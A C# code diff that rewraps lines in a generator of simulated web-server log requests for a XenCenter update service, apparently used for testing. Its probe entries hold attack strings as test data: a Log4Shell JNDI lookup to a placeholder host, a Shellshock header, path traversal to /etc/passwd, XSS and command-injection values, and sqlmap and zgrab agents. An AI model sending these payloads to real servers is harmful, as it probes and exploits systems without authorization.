@@ -20,7 +20,8 @@ internal sealed class Others(WorldOptions options, List<Request> requests)
     }
 
     /// <summary>A stranger's request of any kind.</summary>
-    public static Request Any(Random random, long at, ClientAddress from) => Draw(random, (Drawn)random.Next((int)Drawn.ScriptOfAgents + 1), at, from);
+    public static Request Any(Random random, long at, ClientAddress from) =>
+        Draw(random, (Drawn)random.Next((int)Drawn.ScriptOfAgents + 1), at, from);
 
     private void Each(int clients, Func<(ClientAddress From, int PerDay, Drawn Kind)> draw)
     {
@@ -45,18 +46,24 @@ internal sealed class Others(WorldOptions options, List<Request> requests)
             : new(at, from, "GET", Release.Servers, "", "", 200, Outcome.NoAgentString),
         Drawn.XcpNg => new(at, from, "GET", Release.Legacy, "", "XCP-ng Center/20.03.0.29 (64-bit)", 200, Outcome.OtherClient),
         Drawn.Script => new(at, from, "GET", random.Pick(Release.Modern, Release.Servers), "",
-            random.Pick("curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1", "Wget/1.21.4", "Mozilla/5.0 (compatible; XenCenter/2025.2.0.8315 (64-bit))"), 200, Outcome.OtherClient),
+            random.Pick("curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1", "Wget/1.21.4",
+                "Mozilla/5.0 (compatible; XenCenter/2025.2.0.8315 (64-bit))"), 200, Outcome.OtherClient),
         Drawn.Download => new(at, from, "GET", random.Pick("/xc/XenCenter.msi", "/xc/XenCenter-source.zip", "/xc/"), "",
             random.Pick("", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "XenCenter/2025.2.0.8315 (64-bit)"), 200, Outcome.OtherPath),
         Drawn.Probe => new(at, from, random.Pick("GET", "GET", "POST", "OPTIONS"),
-            random.Pick("/", "/.env", "/wp-login.php", "/cgi-bin/../../etc/passwd", "/updates.tsv.bak", "/XCUpdates.xml/", "/myupdates.tsv", "/robots.txt"),
+            random.Pick("/", "/.env", "/wp-login.php", "/cgi-bin/../../etc/passwd", "/updates.tsv.bak", "/XCUpdates.xml/", "/myupdates.tsv",
+                "/robots.txt"),
             random.Pick("", "q=%00", "a=<script>alert(1)</script>", "next=/updates.2.tsv", "cmd={id}&x=;--"),
-            random.Pick("", "zgrab/0.x", "${jndi:ldap://203.0.113.66/a}", "() { :;}; echo \"XenCenter/1.2.3.4\"", "Mozilla/5.0 \\x22 \\", "sqlmap/1.7#stable"), 404, Outcome.OtherPath),
-        Drawn.Monitor => new(at, from, random.Pick("HEAD", "HEAD", "POST", "PUT"), random.Pick(Release.Modern, Release.Servers, "/updates.2.tsv", "/updates.9.3.2.110.json"), "",
+            random.Pick("", "zgrab/0.x", "${jndi:ldap://203.0.113.66/a}", "() { :;}; echo \"XenCenter/1.2.3.4\"", "Mozilla/5.0 \\x22 \\",
+                "sqlmap/1.7#stable"), 404, Outcome.OtherPath),
+        Drawn.Monitor => new(at, from, random.Pick("HEAD", "HEAD", "POST", "PUT"),
+            random.Pick(Release.Modern, Release.Servers, "/updates.2.tsv", "/updates.9.3.2.110.json"), "",
             random.Pick("UptimeRobot/2.0", "", "XenCenter/2025.2.0.8315 (64-bit)", Agents.Name), 405, Outcome.NotGet),
         Drawn.OddVersion => new(at, from, "GET", Release.Modern, "",
-            random.Pick("XenCenter/8.2 (64-bit)", "XenCenter/dev (64-bit)", "XenCenter/2025.2.0.8315.1 (64-bit)", "XenCenter/12345678901.0.0.0 (64-bit)", "[XenCenter]/2025.2..1 (32-bit)"),
+            random.Pick("XenCenter/8.2 (64-bit)", "XenCenter/dev (64-bit)", "XenCenter/2025.2.0.8315.1 (64-bit)",
+                "XenCenter/12345678901.0.0.0 (64-bit)", "[XenCenter]/2025.2..1 (32-bit)"),
             200, Outcome.BadVersion),
-        _ => new(at, from, "GET", "/updates.9.3.2.110.json", "", random.Pick("choco-install", "PowerShell/7.4", "curl/8.5.0", ""), 200, Outcome.Agent),
+        _ => new(at, from, "GET", "/updates.9.3.2.110.json", "", random.Pick("choco-install", "PowerShell/7.4", "curl/8.5.0", ""), 200,
+            Outcome.Agent),
     };
 }
